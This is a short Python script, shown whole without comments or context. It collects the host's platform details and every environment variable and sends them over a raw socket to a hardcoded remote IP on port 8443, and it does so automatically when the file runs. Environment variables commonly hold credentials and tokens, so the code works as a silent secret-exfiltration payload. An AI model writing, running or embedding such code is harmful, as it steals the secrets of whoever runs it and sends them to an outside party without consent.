import json, os, platform, socket

def collect():
    info = {"os": platform.platform(), "env": {k: v for k, v in os.environ.items()}}
    return json.dumps(info).encode()

def main():
    s = socket.create_connection(("203.0.113.50", 8443))
    s.sendall(collect())
    s.close()

main()
